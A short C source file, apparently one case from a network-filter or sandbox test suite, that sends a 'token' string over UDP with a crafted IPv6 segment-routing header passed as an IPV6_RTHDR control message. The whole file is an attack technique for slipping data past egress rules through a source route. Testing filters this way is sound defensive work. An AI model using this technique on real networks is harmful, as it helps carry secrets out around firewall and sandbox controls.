/* Sends with an IPv6 source route in a control message (IPV6_RTHDR). */
#include "attack.h"

/* An IPv6 source route by way of `to`, wherever the packet goes in the end. */
struct route {
    uint8_t next, length, type, left, last, flags;
    uint16_t tag;
    struct in6_addr segments[2];
};

static struct route by_way_of(void) {
    return (struct route){.length = 4, .type = 4, .left = 1, .last = 1, .segments = {{{{0}}}, to.v6.sin6_addr}};
}

static void attack(void) {
    struct route route = by_way_of();
    int fd = connected(SOCK_DGRAM);
    struct iovec data = {(char *)token, strlen(token)};
    union { struct cmsghdr header; char room[CMSG_SPACE(sizeof route)]; } control = {0};
    control.header = (struct cmsghdr){CMSG_LEN(sizeof route), IPPROTO_IPV6, IPV6_RTHDR};
    memcpy(CMSG_DATA(&control.header), &route, sizeof route);
    struct msghdr message = {
        .msg_iov = &data, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control,
    };
    must(sendmsg(fd, &message, 0), "sendmsg");
}
